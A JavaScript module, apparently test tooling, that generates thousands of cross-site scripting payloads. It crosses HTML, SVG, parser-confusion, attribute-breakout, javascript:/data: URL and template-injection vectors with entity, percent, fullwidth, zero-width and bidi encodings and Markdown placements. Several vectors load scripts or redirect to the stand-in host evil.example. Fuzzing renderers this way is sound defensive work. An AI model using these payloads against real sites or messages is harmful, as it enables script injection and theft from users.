/* Ten thousand ways to have a script run, out of three tables: what is tried, how it is written down, and where it
 * stands. Each would, where it worked, open a dialog, run a script, or ask a foreign host for something. */

const HOST = 'evil.example';
const IMG = '<img src=x onerror=alert(1)>';

const ELEMENTS = [
	'<script>alert(1)</script>',
	`<script src=//${HOST}/x.js></script>`,
	`<script type=module>import "https://${HOST}/x.js"</script>`,
	IMG,
	`<img src=https://${HOST}/x.png>`,
	`<img srcset="https://${HOST}/x 1x">`,
	`<picture><source srcset=//${HOST}/x><img></picture>`,
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><set attributeName=href to=javascript:alert(1)>',
	'<svg><a xlink:href="javascript:alert(1)"><text y=9>x',
	`<svg><image href=//${HOST}/x.svg>`,
	`<svg><use href=//${HOST}/x.svg#a>`,
	'<svg><foreignObject><iframe src=javascript:alert(1)>',
	'<math><mi xlink:href=javascript:alert(1)>x',
	'<body onload=alert(1)>',
	'<body background=//evil.example/x>',
	'<iframe src=javascript:alert(1)>',
	`<iframe src=https://${HOST}/></iframe>`,
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<object data=javascript:alert(1)>',
	`<embed src=https://${HOST}/x.swf>`,
	'<video><source onerror=alert(1)>',
	`<audio autoplay src=//${HOST}/x.ogg>`,
	`<video poster=//${HOST}/x.png>`,
	`<track src=//${HOST}/x.vtt default>`,
	'<details open ontoggle=alert(1)>x',
	'<input autofocus onfocus=alert(1)>',
	'<textarea autofocus onfocus=alert(1)>',
	'<select autofocus onfocus=alert(1)>',
	'<marquee onstart=alert(1)>x',
	'<p onpointerenter=alert(1) onclick=alert(1)>x',
	'<x contenteditable onblur=alert(1)>x',
	'<x popover id=y onbeforetoggle=alert(1)>x',
	'<form action=javascript:alert(1)><button>x',
	'<button formaction=javascript:alert(1)>x',
	'<input type=image src=x onerror=alert(1)>',
	`<base href=https://${HOST}/>`,
	`<link rel=stylesheet href=//${HOST}/x.css>`,
	`<link rel=prefetch href=//${HOST}/x>`,
	`<meta http-equiv=refresh content="0;//${HOST}/">`,
	`<style>@import "//${HOST}/x.css"</style>`,
	`<style>*{background:url(//${HOST}/x)}</style>`,
	`<p style="background:url(//${HOST}/x)">x`,
	'<p style=position:fixed;inset:0 onmouseover=alert(1)>',
	'<a href=javascript:alert(1)>x</a>',
	`<a href=//${HOST}/ ping=//${HOST}/>x</a>`,
	'<template><script>alert(1)</script></template>',
	'<frameset onload=alert(1)>',
	'<applet code=x onerror=alert(1)>',
	'<custom-element onanimationstart=alert(1)>',
];

/* What another parser would take for something else the second time it is read. */
const TWICE = [
	`<noscript><p title="</noscript>${IMG}">`,
	`<textarea><p title="</textarea>${IMG}">`,
	`<title><p title="</title>${IMG}">`,
	`<style><p title="</style>${IMG}">`,
	`<xmp><p title="</xmp>${IMG}">`,
	`<!--<p title="-->${IMG}">`,
	`<!--><p>${IMG}-->`,
	`<![CDATA[><p>${IMG}]]>`,
	`<?x ><p>${IMG}?>`,
	`<svg><style><p title="</style>${IMG}">`,
	`<math><mtext><table><mglyph><style><!--</style>${IMG}`,
	`<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
	`<p title="</p>${IMG}">`,
	`<plaintext>${IMG}`,
	`<a href="&quot;>${IMG}">x</a>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
];

/* What ends an attribute, an element or a string around it. */
const ENDS = [
	`">${IMG}`,
	`'>${IMG}`,
	'" onmouseover="alert(1)" x="',
	"' autofocus onfocus='alert(1)' x='",
	'` onclick=alert(1) x=`',
	'</p></div></article><script>alert(1)</script>',
	'</script><script>alert(1)//',
	'</title></style></textarea><svg/onload=alert(1)>',
	`--></style></script>${IMG}`,
	'";alert(1)//',
	"';alert(1)//",
	'\\";alert(1)//',
	'*/alert(1)/*',
	'javascript:"/*\'/*`/*--></title></textarea></style></script><svg/onload=alert(1)//>',
];

const ADDRESSES = [
	'javascript:alert(1)',
	`javascript://${HOST}/%0aalert(1)`,
	'javascript:https://example.org/;alert(1)',
	'data:text/html,<script>alert(1)</script>',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'data:image/svg+xml,<svg/onload=alert(1)>',
	'vbscript:msgbox(1)',
	'livescript:alert(1)',
	'blob:https://evil.example/1',
	'view-source:javascript:alert(1)',
	'feed:javascript:alert(1)',
	'filesystem:https://evil.example/x',
	`https://bank.example@${HOST}/`,
	`//${HOST}/x`,
	`\\\\${HOST}\\x`,
	`https:${HOST}`,
];

/* What templates and programs would take for theirs. */
const TEMPLATES = [
	'{{constructor.constructor("alert(1)")()}}',
	'{{$on.constructor("alert(1)")()}}',
	'${alert(1)}',
	'#{alert(1)}',
	'<%= alert(1) %>',
	'[[${alert(1)}]]',
	'{alert(1)}',
	`{"dangerouslySetInnerHTML":{"__html":"${IMG}"}}`,
	'__proto__',
	'constructor',
	'[object Object]',
	'$& $` $1',
];

const VECTORS = [...ELEMENTS, ...TWICE, ...ENDS, ...ADDRESSES, ...TEMPLATES];

const each = (text, change) => Array.from(text, change).join('');
const isSign = (character) => '<>"\'&=:/'.includes(character);
const code = (character) => character.codePointAt(0);

const ENCODINGS = {
	plain: (text) => text,
	mixed: (text) => each(text, (one, i) => (i % 2 ? one.toUpperCase() : one.toLowerCase())),
	decimal: (text) => each(text, (one) => (isSign(one) ? `&#${code(one)};` : one)),
	hex: (text) => each(text, (one) => (isSign(one) ? `&#x${code(one).toString(16)}` : one)),
	firstLetter: (text) => text.replace(/[a-z]/i, (one) => `&#${String(code(one)).padStart(7, '0')};`),
	named: (text) => text.replaceAll('<', '&lt;').replaceAll(':', '&colon;').replaceAll('(', '&lpar;'),
	percent: (text) => each(text, (one) => (isSign(one) ? encodeURIComponent(one) : one)),
	percentTwice: (text) => each(text, (one) => (isSign(one) ? encodeURIComponent(encodeURIComponent(one)) : one)),
	escaped: (text) => each(text, (one) => (isSign(one) ? `\\u${code(one).toString(16).padStart(4, '0')}` : one)),
	wide: (text) => each(text, (one) => (isSign(one) ? String.fromCodePoint(code(one) + 0xfee0) : one)),
	slashes: (text) => text.replaceAll(' ', '/'),
	tabs: (text) => text.replace(/([a-z]{2})([a-z]{2})/gi, '$1\t$2'),
	invisible: (text) => text.replaceAll('<', '<\u200b').replaceAll(':', '\u00ad:'),
	turned: (text) => `\u202e${text}\u2066`,
};

/* Where in a message. */
const PLACES = [
	(text) => text,
	(text) => `> ${text}`,
	(text) => `- ${text}`,
	(text) => `# ${text}`,
	(text) => `| a |\n|---|\n| ${text} |`,
	(text) => `*${text}* **${text}**`,
	(text) => `\`\` ${text} \`\``,
	(text) => `[x](${text})`,
	(text) => `[${text}](https://example.org/)`,
	(text) => `![${text}](${text})`,
	(text) => `https://example.org/${text}`,
	(text) => `mailto:a@example.org?subject=${text}`,
];

/* Every vector in every encoding, each once. */
export const PAYLOADS = [...new Set(Object.values(ENCODINGS).flatMap((encode) => VECTORS.map((text) => encode(text))))];

/* The first so many of all payloads in all places, spread over both tables. */
export function placed(count) {
	const all = PAYLOADS.flatMap((text) => PLACES.map((place) => place(text)));
	const step = all.length / Math.min(count, all.length);
	return Array.from({ length: Math.min(count, all.length) }, (_, i) => all[Math.floor(i * step)]);
}

/* So many to a message as it holds, with an empty line between. */
export function messagesOf(lines, max) {
	const messages = [''];
	for (const line of lines) {
		if ([...messages.at(-1), ...line].length + 2 > max) messages.push('');
		messages.push(`${messages.pop()}${line}\n\n`);
	}
	return messages.map((text) => text.trim());
}

/* Brings another at each call, spread over all there are: no longer than the field may be, and on one line. */
export function lineByLine() {
	let looked = 0;
	const next = (max) => {
		for (;;) {
			const text = PAYLOADS[(looked++ * 97) % PAYLOADS.length];
			if ([...text].length > max || /[\t\u202e\u200b]/.test(text)) continue;
			next.used++;
			return text;
		}
	};
	next.used = 0;
	return next;
}
